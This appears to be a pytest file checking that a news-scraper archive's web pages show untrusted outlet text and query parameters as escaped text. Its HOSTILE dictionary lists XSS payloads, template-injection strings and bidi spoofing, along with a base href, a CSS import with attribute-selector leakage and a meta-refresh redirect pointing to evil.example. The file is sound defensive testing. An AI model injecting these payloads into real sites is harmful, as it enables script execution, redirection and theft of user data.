"""What outlets send is shown as text on every page, whatever it is: never as markup, never as an error."""

import json
import re
from collections import Counter
from collections.abc import Iterable, Iterator
from dataclasses import asdict, replace
from datetime import UTC, datetime
from html import escape, unescape
from html.parser import HTMLParser

import httpx
import pytest

from scrapers.archive import keys
from scrapers.archive.archive import Archive
from scrapers.model.batch import Batch, Outcome, SourceReport
from scrapers.model.codec import FORMAT
from scrapers.model.column import version
from scrapers.model.link import DayLink, Link, State
from tests.desk.fill import DAY, refined
from tests.support.shelf import page, text

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "image": "<img src=x onerror=alert(1)>",
    "attribute": "\" onmouseover=alert(1) x='",
    "javascript": "javascript:alert(1)",
    "comment": "--><script>alert(1)</script><!--",
    "title": "</title></textarea></style></pre><script>alert(1)</script>",
    "svg": "<svg/onload=alert(1)><base href=//evil.example>",
    "css": "<style>@import '//evil.example/a';input[value^=a]{background:url(//evil.example/b)}</style>",
    "refresh": "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "template": "{{ 7 * 191 }}{% raw %}${7*191}",
    "bidi": "safe\u202egpj.exe\u2066 \u061cx\u2067",
    "long": "Donaudampfschiff" * 2_000,
    "combining": "e" + "\u0301" * 3_000,
    "entity": "&lt;b&gt; &amp; &#x0;",
    "astral": "\U0001f41f \ufeff\ufffe zero\u200bwidth",
}
RAW = {"nul": "a\0b", "lone": "a\ud800b", "escape": "a\x1b[31mb\x07\x7f", "low": "\udfffz"}
"""What no page of the web can carry to us, but JSON can: an API, or an archive's index."""

VOID = {"meta", "link", "input", "br", "img"}


class Elements(HTMLParser):
    """Elements and attributes of a page, and whether what is opened is closed."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.scripts: list[str] = []
        self.attributes: list[tuple[str, str | None]] = []
        self.open: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        # The chart of a search is ours.
        self.tags.add("chart" if tag == "svg" and ("class", "bars") in attrs else tag)
        self.attributes += attrs
        if tag == "script":
            self.scripts.append(dict(attrs).get("src") or "")
        if tag not in VOID:
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag


def check(answer: httpx.Response) -> None:
    """The page has the elements of our templates alone, and no character that a page may not have."""
    assert answer.status_code == 200, answer.text[:500]
    found = Elements()
    found.feed(answer.content.decode("utf-8"))
    found.close()
    assert not found.open
    assert not found.tags & {"img", "svg", "base", "iframe", "object", "embed", "style"}
    assert all(source.startswith("/static/") for source in found.scripts)
    for name, value in found.attributes:
        assert not name.startswith("on"), name
        if name in {"href", "src", "action", "hx-get"}:
            assert re.match(r"[/#?]", value or ""), value
            assert not str(value).startswith("//")
    assert not re.search(r"[\0-\x08\x0b\x0c\x0e-\x1f\x7f]", answer.text)


def pages(archive: Archive) -> Iterator[str]:
    """The address of every page that there is of the archive."""
    yield from ("/", "/outlets", "/outlets/gazette", "/quarantine", "/search?outlet=gazette")
    yield "/changes?from=2026-11-20&to=2026-11-23"
    filed = archive.catalog.filed()
    yield from (f"/days/gazette/{day}" for day in {each.day for each in filed} | {DAY})
    for name in archive.batches("gazette"):
        yield f"/batches/gazette/{name}"
        for outcome in archive.batch("gazette", name).outcomes:
            yield f"/sources/gazette/{name}/{outcome.part}/{outcome.offset}"
    for article_id, texts in Counter(each.article_id for each in filed if each.state.traits.table).items():
        yield f"/articles/gazette/{article_id}"
        if texts > 1:
            yield f"/articles/gazette/{article_id}?text=2&before=1"


def test_text_of_pages_is_shown_as_text(desk: httpx.Client, archive: Archive) -> None:
    for batch, more in (("20261122T1200Z", "once"), ("20261122T1300Z", "twice")):
        served = [
            page(
                number,
                headline=escape(f"{evil} {more}"),
                lead=escape(evil),
                body=[*text(number), escape(f"{evil} {more}")],
                headers={"X-Evil": evil.encode("ascii", "replace").decode()},
            )
            for number, evil in enumerate(HOSTILE.values())
        ]
        refined(archive, batch, *served)
    shown = ""
    for address in pages(archive):
        answer = desk.get(address)
        check(answer)
        shown += unescape(answer.text)
    for name in ("script", "image", "attribute", "javascript", "template", "svg"):
        assert f"{HOSTILE[name]} twice" in shown
    assert "1337" not in shown


def test_the_longest_headline_that_is_read_and_broken_bytes_are_text_too(
    desk: httpx.Client, archive: Archive
) -> None:
    long = "Donau <b>dampf</b> " * 14_000
    for batch, more in (("20261122T1200Z", "once"), ("20261122T1300Z", "twice")):
        broken = page(2, headline=f"BROKEN <b>{more}", body=[*text(2), f"BROKEN {more}"])
        payload = broken.html.encode().replace(b"BROKEN", b"\xff\xfe\xc3(\xed\xa0\x80")
        refined(archive, batch, page(1, headline=escape(f"{long}{more}")), replace(broken, payload=payload))
    shown = {address: desk.get(address) for address in pages(archive)}
    assert sum("?text=2&before=1" in address for address in shown) == 2, "both have two texts"
    for answer in shown.values():
        check(answer)
    feed = desk.get("/search.atom?outlet=gazette")
    assert feed.status_code == 200
    assert "<b>" not in feed.text


def test_a_headline_of_five_megabytes_is_kept_as_it_came_and_not_read(
    desk: httpx.Client, archive: Archive
) -> None:
    refined(archive, "20261122T1200Z", page(1, headline="<b>" * 1_700_000), page(2))
    assert [each.state for each in archive.catalog.filed()] == [State.ARCHIVED]
    for address in pages(archive):
        check(desk.get(address))
    replays = re.findall(r'href="(/replays/[^"]+)"', desk.get("/batches/gazette/20261122T1200Z").text)
    assert len(replays) == 2
    drawn = {desk.get(f"{replay}/page").status_code for replay in replays}
    assert drawn == {200, 404}, "that of the article, and that it cannot be drawn"


def listed(archive: Archive, words: Iterable[str]) -> str:
    """The name of a batch in which sources and outcomes say these words."""
    due = datetime(2026, 11, 23, 1, tzinfo=UTC)
    links = [
        Link(
            url="https://gazette.example/post1",
            canonical_url="https://gazette.example/post1?" + evil,
            source=evil,
            title=evil,
            published=datetime(2026, 11, 22, 10, tzinfo=UTC),
            section=evil,
        )
        for evil in words
    ]
    batch = Batch(
        outlet="gazette",
        batch="20261123T0100Z.list-20261122",
        started_at=due,
        ended_at=due,
        code_version="tests",
        user_agent="tests",
        sources=tuple(
            SourceReport(name=link.source, url=link.source, links=1, new=1, error=link.source)
            for link in links
        ),
        outcomes=tuple(
            Outcome(link=link, state=State.FAILED, reason=link.source, fetched_at=due) for link in links
        ),
        parts=(),
        day=DAY,
        listed=tuple(
            DayLink(link=replace(link, source=f"list {link.source}"), stated=True) for link in links
        ),
    )
    # As a program writes it that escapes all but ASCII, for UTF-8 has no lone surrogates.
    body = json.dumps({FORMAT: version(Batch), **asdict(batch)}, default=str).encode()
    archive.store.put(keys.batch_json("gazette", batch.batch), body, content_type="application/json")
    archive.record_batch(archive.batch("gazette", batch.batch))
    return batch.batch


def test_what_sources_say_is_shown_as_text(desk: httpx.Client, archive: Archive) -> None:
    every = HOSTILE | RAW
    batch = listed(archive, every.values())
    assert archive.batch("gazette", batch).sources[-1].name == [*every.values()][-1]
    day = f"/days/gazette/{DAY}"
    for address in ("/", day, f"/batches/gazette/{batch}"):
        check(desk.get(address))
    assert f"{len(every)} links" in desk.get(day).text
    for form in ("jsonl", "csv", "parquet"):
        assert desk.get(f"{day}/links.{form}").status_code == 200
    assert len(desk.get(f"{day}/links.jsonl").text.splitlines()) == len(every)
    for name in ("script", "bidi", "attribute", "template"):
        for field, value in (("reason", HOSTILE[name]), ("source", f"list {HOSTILE[name]}")):
            answer = desk.get(day, params={field: value})
            check(answer)
            assert "1 link, page 1 of 1" in answer.text


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_what_an_address_says_is_shown_as_text(desk: httpx.Client, name: str) -> None:
    evil = HOSTILE[name][:500]
    for answer in (
        desk.get("/quarantine", params={"outlet": evil}),
        desk.get("/changes", params={"kind": evil}),
        desk.get("/search", params={"q": evil, "section": evil, "sort": evil}),
        desk.get("/", params={"from": evil}),
        desk.get("/", params={"language": evil}),
        desk.get("/days/vietnamplus/2026-11-22", params={"page": evil}),
        desk.get(f"/days/vietnamplus/{evil.replace('/', '')}"),
    ):
        assert answer.status_code in {200, 400, 404}
        found = Elements()
        found.feed(answer.text)
        assert not found.open
        assert all(source.startswith("/static/") for source in found.scripts)
        assert not any(attribute.startswith("on") for attribute, _ in found.attributes)
